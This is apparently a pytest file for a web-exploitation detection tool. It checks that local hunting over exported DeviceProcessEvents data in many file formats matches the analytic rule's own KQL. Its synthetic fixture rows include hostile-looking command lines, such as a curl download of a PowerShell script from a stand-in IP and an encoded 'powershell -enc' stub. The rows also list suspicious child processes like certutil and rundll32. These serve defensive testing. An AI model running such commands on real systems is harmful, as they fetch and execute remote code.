"""``hunt --local``: every input format returns exactly what the source rule's KQL returns.

One DeviceProcessEvents dataset (matches for every label, near misses, nulls, case variants,
rows outside the window, Kusto timestamps with 7 fractional digits) is written in every
supported format; the reference is the analytic rule's own query run by duckdb-kql on a typed
table built from the same data.
"""

from __future__ import annotations

import csv
import gzip
import json
import random
import shutil
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb_kql
import pytest
from conftest import Run

from sentinel_t1190 import api, detection
from sentinel_t1190.engine import resolve_files
from sentinel_t1190.errors import InputError, UnsupportedQueryError
from sentinel_t1190.rules import Pack, load_pack
from sentinel_t1190.timespan import iso_z

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)
NOW_TEXT = "2026-11-27T12:00:00Z"

#: The dataset's columns and their DuckDB types (a subset of the schema, as exports have).
COLUMNS = {
    "Timestamp": "TIMESTAMP", "DeviceId": "VARCHAR", "DeviceName": "VARCHAR",
    "ActionType": "VARCHAR", "AccountName": "VARCHAR", "FileName": "VARCHAR",
    "FolderPath": "VARCHAR", "ProcessId": "BIGINT", "ProcessCommandLine": "VARCHAR",
    "InitiatingProcessFileName": "VARCHAR", "InitiatingProcessCommandLine": "VARCHAR",
    "InitiatingProcessParentFileName": "VARCHAR", "SHA256": "VARCHAR", "ReportId": "BIGINT",
}

NEAR_MISSES: list[tuple[str | None, str | None]] = [
    ("w3wp.exe", "powershell_ise.exe"), ("w3wp.exe", "cmd.exe "), ("w3wp.exe.bak", "cmd.exe"),
    (" w3wp.exe", "cmd.exe"), ("w3wp", "cmd"), ("explorer.exe", "cmd.exe"), (None, "cmd.exe"),
    ("w3wp.exe", None), ("", "whoami.exe"), ("java", "bash"), ("java.exe", "conhost.exe"),
    ("tomcat10.exe", "cmd.exe"), ("node.exe", "node.exe"),
]
CASE_VARIANTS = [("W3WP.EXE", "CMD.EXE"), ("Java.Exe", "WhoAmI.exe"), ("NODE.exe", "Curl.EXE"),
                 ("php-CGI.exe", "SchTasks.exe"), ("Python3.EXE", "RUNDLL32.exe")]
#: Offsets back from NOW for rows outside or on the edges of the windows the tests use.
EDGES = [timedelta(0), timedelta(hours=24), timedelta(days=3),
         timedelta(days=7), timedelta(hours=25), timedelta(days=6, hours=23),
         timedelta(days=8), timedelta(days=30)]


def _events() -> list[dict[str, Any]]:
    """The dataset: distinct timestamps to the millisecond, so every sort order is total."""
    rng = random.Random(20261127)
    pairs: list[tuple[str | None, str | None]] = [
        (rng.choice(detection.WEB_SERVER_PARENTS), child)
        for child in detection.SUSPICIOUS_CHILDREN]
    pairs += [(parent, rng.choice(detection.SUSPICIOUS_CHILDREN))
              for parent in detection.WEB_SERVER_PARENTS]
    pairs += NEAR_MISSES + CASE_VARIANTS
    rows: list[dict[str, Any]] = []
    used: set[datetime] = set()

    def add(parent: str | None, child: str | None, when: datetime) -> None:
        i = len(rows)
        assert when.replace(microsecond=when.microsecond // 1000 * 1000) not in used
        used.add(when.replace(microsecond=when.microsecond // 1000 * 1000))
        rows.append({
            "Timestamp": when,
            "DeviceId": f"{i:040x}",
            "DeviceName": rng.choice(["web-iis-01.corp.example", "app-java-02", "EXCH-01"]),
            "ActionType": "ProcessCreated",
            "AccountName": None if i % 7 == 0 else rng.choice(["DefaultAppPool", "tomcat",
                                                                "ñandú", "svc, web"]),
            "FileName": child,
            "FolderPath": None if child is None else f"C:\\Windows\\System32\\{child}",
            "ProcessId": 4000 + i,
            "ProcessCommandLine": None if i % 11 == 0 else rng.choice([
                f"{child} /c \"whoami & echo x, y\"", "powershell -enc SQBFAFgA",
                "line one\nline two", "curl http://203.0.113.9/a.ps1 -o 'c:\\t\\a.ps1'"]),
            "InitiatingProcessFileName": parent,
            "InitiatingProcessCommandLine": f"{parent} -ap \"DefaultAppPool\"",
            "InitiatingProcessParentFileName": None if i % 5 == 0 else "svchost.exe",
            "SHA256": None if i % 9 == 0 else f"{i:064x}",
            "ReportId": 10_000 + i,
        })

    # Inside the last 24 hours: one distinct second each, random sub-second part.
    seconds = rng.sample(range(1, 24 * 3600 - 1), len(pairs) * 2)
    for (parent, child), second in zip(pairs * 2, seconds, strict=True):
        add(parent, child, NOW - timedelta(seconds=second, microseconds=rng.randrange(10**6)))
    # Matches (of every label) and near misses on and outside the edges of the windows.
    edge_pairs = [("w3wp.exe", "cmd.exe"), ("java.exe", "certutil.exe"),
                  ("nginx.exe", "whoami.exe"), ("php.exe", "sc.exe"), ("node.exe", "ping.exe"),
                  ("w3wp.exe", "powershell_ise.exe")]
    for k, offset in enumerate(EDGES):
        for j, (parent, child) in enumerate(edge_pairs):
            exact = j == 0 and offset not in (timedelta(hours=25), timedelta(days=30))
            jitter = timedelta(0) if exact else timedelta(seconds=37 * (j + 1) + k,
                                                          microseconds=rng.randrange(10**6))
            add(parent, child, NOW - offset - jitter)
    # Background noise spread over 10 days.
    for second in rng.sample(range(24 * 3600, 10 * 24 * 3600), 150):
        add(rng.choice(["services.exe", "explorer.exe", "w3wp.exe"]),
            rng.choice(["svchost.exe", "conhost.exe", "csc.exe"]),
            NOW - timedelta(seconds=second, microseconds=rng.randrange(10**6)))
    return rows


EVENTS = _events()


def _ms(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The rows as a millisecond-precision export (the Log Analytics portal) carries them."""
    return [{**r, "Timestamp": r["Timestamp"].replace(
        microsecond=r["Timestamp"].microsecond // 1000 * 1000)} for r in rows]


# --- writers: the formats people export ---------------------------------------------------


def _kusto_time(moment: datetime, index: int) -> str:
    """Kusto's own rendering: 7 fractional digits (the 7th, 100 ns, is below DuckDB's µs)."""
    return moment.strftime("%Y-%m-%dT%H:%M:%S.%f") + str(index % 10) + "Z"


def _portal_time(moment: datetime) -> str:
    """Log Analytics "Export to CSV": ``11/27/2026, 10:00:00.123 AM`` (no zero padding)."""
    hour = moment.hour % 12 or 12
    return (f"{moment.month}/{moment.day}/{moment.year}, {hour}:{moment:%M:%S}."
            f"{moment.microsecond // 1000:03d} {'AM' if moment.hour < 12 else 'PM'}")


def _records(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [{**r, "Timestamp": _kusto_time(r["Timestamp"], i)} for i, r in enumerate(rows)]


def write_defender_csv(rows: list[dict[str, Any]], path: Path) -> None:
    """As Defender advanced hunting exports: plain headers, Kusto timestamps, empty = null."""
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(COLUMNS))
        writer.writeheader()
        writer.writerows(_records(rows))


def write_portal_csv(rows: list[dict[str, Any]], path: Path) -> None:
    """As the Log Analytics portal exports: ``Timestamp [UTC]`` headers, US 12-hour times."""
    header = [f"{c} [UTC]" if t == "TIMESTAMP" else c for c, t in COLUMNS.items()]
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["TimeGenerated [UTC]", *header])
        for r in rows:
            stamp = _portal_time(r["Timestamp"])
            writer.writerow([stamp, *(stamp if c == "Timestamp" else r[c] for c in COLUMNS)])


def write_json_array(rows: list[dict[str, Any]], path: Path) -> None:
    path.write_text(json.dumps(_records(rows), ensure_ascii=False), encoding="utf-8")


def write_jsonl(rows: list[dict[str, Any]], path: Path) -> None:
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in _records(rows)),
                    encoding="utf-8")


def _table(rows: list[dict[str, Any]]) -> Any:
    """A duckdb-kql connection holding *rows* as a typed DeviceProcessEvents table."""
    con = duckdb_kql.connect()
    con.execute("CREATE TABLE DeviceProcessEvents ("
                + ", ".join(f'"{c}" {t}' for c, t in COLUMNS.items()) + ")")
    con.executemany(
        f"INSERT INTO DeviceProcessEvents VALUES ({', '.join('?' * len(COLUMNS))})",
        [[r["Timestamp"].replace(tzinfo=None) if c == "Timestamp" else r[c] for c in COLUMNS]
         for r in rows])
    return con


def write_parquet(rows: list[dict[str, Any]], path: Path) -> None:
    """Typed Parquet (TIMESTAMP, BIGINT) written by DuckDB's COPY."""
    con = _table(rows)
    con.execute(f"COPY DeviceProcessEvents TO '{path}' (FORMAT parquet)")
    con.close()


def write_parquet_as(sql_type: str) -> Callable[[list[dict[str, Any]], Path], None]:
    """Parquet whose Timestamp column has another type: TIMESTAMPTZ, TIMESTAMP_NS, text."""

    def write(rows: list[dict[str, Any]], path: Path) -> None:
        con = _table(rows)
        if sql_type == "VARCHAR":  # Kusto's text form, as a string column
            con.execute("ALTER TABLE DeviceProcessEvents ALTER Timestamp TYPE VARCHAR USING "
                        "strftime(Timestamp, '%Y-%m-%dT%H:%M:%S.%f') || '0Z'")
        else:
            con.execute(f"ALTER TABLE DeviceProcessEvents ALTER Timestamp TYPE {sql_type}")
        con.execute(f"COPY DeviceProcessEvents TO '{path}' (FORMAT parquet)")
        [(written,)] = con.execute(f"SELECT typeof(Timestamp) FROM '{path}' LIMIT 1").fetchall()
        assert written == ("TIMESTAMP WITH TIME ZONE" if sql_type == "TIMESTAMPTZ"
                           else sql_type)
        con.close()

    return write


def write_tsv(rows: list[dict[str, Any]], path: Path) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(COLUMNS), delimiter="\t")
        writer.writeheader()
        writer.writerows(_records(rows))


def write_utf16_csv(rows: list[dict[str, Any]], path: Path) -> None:
    """Excel's "Unicode text" CSV: UTF-16 with a byte-order mark."""
    plain = path.with_name("plain-" + path.name)
    write_defender_csv(rows, plain)
    path.write_text(plain.read_text(encoding="utf-8"), encoding="utf-16")
    plain.unlink()


def _gz(write: Callable[[list[dict[str, Any]], Path], None]
        ) -> Callable[[list[dict[str, Any]], Path], None]:
    def write_gz(rows: list[dict[str, Any]], path: Path) -> None:
        plain = path.with_name("plain-" + path.name.removesuffix(".gz"))
        write(rows, plain)
        with plain.open("rb") as src, gzip.open(path, "wb") as dst:
            shutil.copyfileobj(src, dst)
        plain.unlink()
    return write_gz


#: name -> (file name, writer, timestamp precision the format carries)
FORMATS: dict[str, tuple[str, Callable[[list[dict[str, Any]], Path], None], bool]] = {
    "defender-csv": ("DeviceProcessEvents.csv", write_defender_csv, False),
    "portal-csv": ("DeviceProcessEvents.csv", write_portal_csv, True),
    "json-array": ("DeviceProcessEvents.json", write_json_array, False),
    "jsonl": ("DeviceProcessEvents.jsonl", write_jsonl, False),
    "parquet": ("DeviceProcessEvents.parquet", write_parquet, False),
    "parquet-tz": ("DeviceProcessEvents.parquet", write_parquet_as("TIMESTAMPTZ"), False),
    "parquet-ns": ("DeviceProcessEvents.parquet", write_parquet_as("TIMESTAMP_NS"), False),
    "parquet-text": ("DeviceProcessEvents.parquet", write_parquet_as("VARCHAR"), False),
    "tsv": ("DeviceProcessEvents.tsv", write_tsv, False),
    "utf16-csv": ("DeviceProcessEvents.csv", write_utf16_csv, False),
    "defender-csv-gz": ("DeviceProcessEvents.csv.gz", _gz(write_defender_csv), False),
    "portal-csv-gz": ("DeviceProcessEvents.csv.gz", _gz(write_portal_csv), True),
    "json-array-gz": ("DeviceProcessEvents.json.gz", _gz(write_json_array), False),
    "jsonl-gz": ("DeviceProcessEvents.jsonl.gz", _gz(write_jsonl), False),
}


# --- the reference: the source rule's KQL, run directly ------------------------------------

RULE = next(r for r in load_pack().rules if r.id == detection.RULE_ID)


def reference(rows: list[dict[str, Any]], lookback: str = "24h") -> list[dict[str, Any]]:
    """What the analytic rule's own query returns over *rows* at NOW (lookback swapped in)."""
    assert RULE.query.count("ago(24h)") == 1
    con = _table(rows)
    relation = duckdb_kql.kql(con, RULE.query.replace("ago(24h)", f"ago({lookback})"),
                              query_now=NOW)
    columns = [c for c in relation.columns if c != "FileHashAlgorithm"]
    found = [{c: iso_z(v) if isinstance(v, datetime) else v
              for c, v in zip(relation.columns, row, strict=True) if c in columns}
             for row in relation.fetchall()]
    con.close()
    return found


REFERENCE = reference(EVENTS)
REFERENCE_MS = reference(_ms(EVENTS))


def written(fmt: str, folder: Path, rows: list[dict[str, Any]] = EVENTS) -> Path:
    """*rows* written in format *fmt* under *folder*."""
    name, write, _ = FORMATS[fmt]
    write(rows, folder / name)
    return folder / name


def matches_between(start: datetime, end: datetime) -> list[dict[str, Any]]:
    """The dataset's matching events in (start, end], newest first (by Python, not KQL)."""
    return sorted((r for r in EVENTS if start < r["Timestamp"] <= end
                   and detection.classify(r["InitiatingProcessFileName"], r["FileName"])),
                  key=lambda r: r["Timestamp"], reverse=True)


def hunt_json(cli: Callable[..., Run], *args: str) -> dict[str, Any]:
    run = cli("hunt", *args, "--now", NOW_TEXT, "--output", "json")
    assert run.code == 0, run.stderr
    assert run.stderr == ""
    doc: dict[str, Any] = run.json()
    return doc


def test_the_dataset_exercises_the_rule() -> None:
    labels = {r["ExploitEvidence"] for r in REFERENCE}
    assert labels == set(detection.LABELS)
    found = {(r["InitiatingProcessFileName"], r["FileName"]) for r in REFERENCE}
    assert set(CASE_VARIANTS) <= found
    assert not found & set(NEAR_MISSES)
    assert any(r["AccountName"] is None for r in REFERENCE)
    assert any(r["ProcessCommandLine"] == "line one\nline two" for r in REFERENCE)
    # Rows outside the 24 h window exist and match: 7 days finds more.
    assert len(reference(EVENTS, "7d")) > len(REFERENCE) + 5
    # The edge at exactly NOW is in, at exactly NOW - 24h is out.
    stamps = {r["Timestamp"] for r in REFERENCE}
    assert iso_z(NOW) in stamps
    assert iso_z(NOW - timedelta(hours=24)) not in stamps


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_every_format_returns_what_the_source_kql_returns(
    fmt: str, tmp_path: Path, cli: Callable[..., Run]
) -> None:
    doc = hunt_json(cli, "--local", str(written(fmt, tmp_path)))
    expected = REFERENCE_MS if FORMATS[fmt][2] else REFERENCE
    assert doc["findings"] == expected
    assert doc["summary"]["total"] == len(expected)
    assert doc["warnings"] == []
    assert doc["complete"] is True


def test_several_files_give_the_same_result(tmp_path: Path, cli: Callable[..., Run]) -> None:
    first = tmp_path / "a" / "DeviceProcessEvents.csv"
    second = tmp_path / "DeviceProcessEvents.parquet"
    first.parent.mkdir()
    write_defender_csv(EVENTS[::2], first)
    write_parquet(EVENTS[1::2], second)
    doc = hunt_json(cli, "--local", str(first), str(second))
    assert doc["findings"] == REFERENCE
    assert doc["source"]["files"] == [str(first), str(second)]
    # --local repeated is the same as several after one --local.
    assert hunt_json(cli, "--local", str(first), "--local", str(second)) == doc


@pytest.mark.parametrize("fmt", ["defender-csv", "parquet", "jsonl"])
def test_timespan_7d_returns_the_last_7_days(
    fmt: str, tmp_path: Path, cli: Callable[..., Run]
) -> None:
    path = written(fmt, tmp_path)
    doc = hunt_json(cli, "--local", str(path), "--timespan", "7d")
    week = NOW - timedelta(days=7)
    expected = matches_between(week, NOW)
    assert [f["Timestamp"] for f in doc["findings"]] == [iso_z(r["Timestamp"]) for r in expected]
    assert doc["findings"] == reference(EVENTS, "7d")
    assert doc["window"] == {"start": "2026-11-20T12:00:00Z", "end": NOW_TEXT}
    oldest = min(f["Timestamp"] for f in doc["findings"])
    assert oldest > iso_z(week)
    assert oldest < iso_z(NOW - timedelta(days=6))
    # PT168H is the same window.
    assert hunt_json(cli, "--local", str(path), "--timespan", "PT168H") == doc


def test_start_end_window_is_start_exclusive_end_inclusive(
    tmp_path: Path, cli: Callable[..., Run]
) -> None:
    path = tmp_path / "DeviceProcessEvents.csv"
    write_defender_csv(EVENTS, path)
    start, end = NOW - timedelta(days=3), NOW - timedelta(days=1)
    doc = hunt_json(cli, "--local", str(path), "--start", "2026-11-24T12:00:00Z",
                    "--end", "2026-11-26T12:00:00Z")
    stamps = [f["Timestamp"] for f in doc["findings"]]
    expected = matches_between(start, end)
    assert stamps == [iso_z(r["Timestamp"]) for r in expected]
    assert iso_z(end) in stamps  # a match at exactly --end is in
    assert iso_z(start) not in stamps  # a match at exactly --start is out
    assert any(r["Timestamp"] == start and detection.classify(
        r["InitiatingProcessFileName"], r["FileName"]) for r in EVENTS)
    assert doc["window"] == {"start": "2026-11-24T12:00:00Z", "end": "2026-11-26T12:00:00Z"}


def test_rows_after_now_are_outside_the_window(tmp_path: Path, cli: Callable[..., Run]) -> None:
    future = {**EVENTS[0], "Timestamp": NOW + timedelta(minutes=5),
              "InitiatingProcessFileName": "w3wp.exe", "FileName": "cmd.exe"}
    path = tmp_path / "DeviceProcessEvents.jsonl"
    write_jsonl([future, *EVENTS], path)
    assert hunt_json(cli, "--local", str(path))["findings"] == REFERENCE


def test_table_equals_path_and_unknown_names(tmp_path: Path, cli: Callable[..., Run]) -> None:
    odd = tmp_path / "export (3).csv"
    write_defender_csv(EVENTS, odd)
    assert hunt_json(cli, "--local", f"DeviceProcessEvents={odd}")["findings"] == REFERENCE
    assert hunt_json(cli, "--local", f"deviceprocessevents={odd}")["findings"] == REFERENCE
    # A name that is no known table is read as the rule's main table.
    assert hunt_json(cli, "--local", str(odd))["findings"] == REFERENCE
    mixed = tmp_path / "devICEprocessevents.jsonl"
    write_jsonl(EVENTS, mixed)
    assert hunt_json(cli, "--local", str(mixed))["findings"] == REFERENCE
    [resolved] = resolve_files([str(mixed)], main_table="SomethingElse")
    assert resolved.table == "DeviceProcessEvents"
    [resolved] = resolve_files([str(odd)], main_table="SomethingElse")
    assert resolved.table == "SomethingElse"


def test_files_with_only_the_columns_the_rule_needs(tmp_path: Path,
                                                     cli: Callable[..., Run]) -> None:
    needed = ["Timestamp", "DeviceName", "AccountName", "FileName", "ProcessCommandLine",
              "InitiatingProcessFileName", "InitiatingProcessCommandLine",
              "InitiatingProcessParentFileName", "SHA256"]
    path = tmp_path / "DeviceProcessEvents.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=needed, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(_records(EVENTS))
    assert hunt_json(cli, "--local", str(path))["findings"] == REFERENCE


def test_json_whose_keys_and_types_change_late(tmp_path: Path, cli: Callable[..., Run]) -> None:
    """DuckDB guesses JSON keys and types from the first records; the schema must decide."""
    old = NOW - timedelta(days=20)
    early = [{"Timestamp": _kusto_time(old - timedelta(seconds=i), i), "DeviceName": "h",
              "FileName": "conhost.exe", "ProcessCommandLine": i,
              "InitiatingProcessFileName": "services.exe", "InitiatingProcessCommandLine": None,
              "InitiatingProcessParentFileName": None} for i in range(25_000)]
    path = tmp_path / "DeviceProcessEvents.jsonl"
    with path.open("w", encoding="utf-8") as handle:
        handle.writelines(json.dumps(r) + "\n" for r in early + _records(EVENTS))
    assert hunt_json(cli, "--local", str(path))["findings"] == REFERENCE


def test_headers_in_another_case(tmp_path: Path, cli: Callable[..., Run]) -> None:
    path = tmp_path / "DeviceProcessEvents.csv"
    write_defender_csv(EVENTS, path)
    text = path.read_text(encoding="utf-8")
    header, rest = text.split("\n", 1)
    path.write_text(header.lower() + "\n" + rest, encoding="utf-8")
    assert hunt_json(cli, "--local", str(path))["findings"] == REFERENCE


def test_library_api_returns_the_same(tmp_path: Path) -> None:
    path = tmp_path / "DeviceProcessEvents.parquet"
    write_parquet(EVENTS, path)
    [result] = api.hunt_local([str(path)], now=NOW)
    assert result.findings == REFERENCE
    assert result.columns == list(REFERENCE[0])


# --- KQL the engine does not support ------------------------------------------------------


def _pack_with_hunting_query(query: str) -> Pack:
    assert RULE.hunting is not None
    return Pack((replace(RULE, hunting=replace(RULE.hunting, query=query)),))


@pytest.mark.parametrize("query", [
    "DeviceProcessEvents | where Timestamp > todatetime('{{StartTimeISO}}') "
    "| evaluate autocluster()",
    "DeviceProcessEvents | where Timestamp <= todatetime('{{EndTimeISO}}') "
    "| scan with (step s: FileName == 'cmd.exe';)",
])
def test_unsupported_kql_is_refused_not_empty(query: str, tmp_path: Path) -> None:
    path = tmp_path / "DeviceProcessEvents.csv"
    write_defender_csv(EVENTS, path)
    with pytest.raises(UnsupportedQueryError) as caught:
        api.hunt_local([str(path)], now=NOW, pack=_pack_with_hunting_query(query))
    message = str(caught.value)
    assert message.startswith("the local engine does not support this KQL")
    assert "\n" not in message
    assert caught.value.exit_code == 2


def test_unsupported_kql_through_the_cli_exits_2(tmp_path: Path) -> None:
    import subprocess
    import sys

    root = Path(__file__).resolve().parent.parent
    pack = tmp_path / "pack"
    shutil.copytree(root / "analytics", pack / "analytics")
    shutil.copytree(root / "hunting", pack / "hunting")
    hunting = pack / "hunting" / "web_server_child_process.yaml"
    text = hunting.read_text(encoding="utf-8")
    hunting.write_text(text.replace("| sort by Timestamp desc",
                                    "| sort by Timestamp desc\n  | evaluate autocluster()"),
                       encoding="utf-8")
    path = tmp_path / "DeviceProcessEvents.csv"
    write_defender_csv(EVENTS, path)
    code = ("import sys\nfrom pathlib import Path\nimport sentinel_t1190.rules as r\n"
            f"r.default_pack_dir = lambda: Path({str(pack)!r})\n"
            "from sentinel_t1190.cli import app\n"
            "sys.argv = ['sentinel-t1190', 'hunt', '--local', sys.argv[1], '--now', "
            f"{NOW_TEXT!r}]\napp()\n")
    done = subprocess.run([sys.executable, "-c", code, str(path)], capture_output=True,
                          text=True, cwd=root, timeout=120)
    assert done.returncode == 2
    assert done.stdout == ""
    assert done.stderr.startswith("error: the local engine does not support this KQL")
    assert done.stderr.count("\n") == 1


def test_api_errors_are_input_errors(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="no such file"):
        api.hunt_local([str(tmp_path / "nope.csv")], now=NOW)
    path = tmp_path / "DeviceProcessEvents.csv"
    write_defender_csv(EVENTS[:5], path)
    with pytest.raises(InputError, match="given twice"):
        api.hunt_local([str(path), f"DeviceProcessEvents={tmp_path}/./DeviceProcessEvents.csv"],
                       now=NOW)
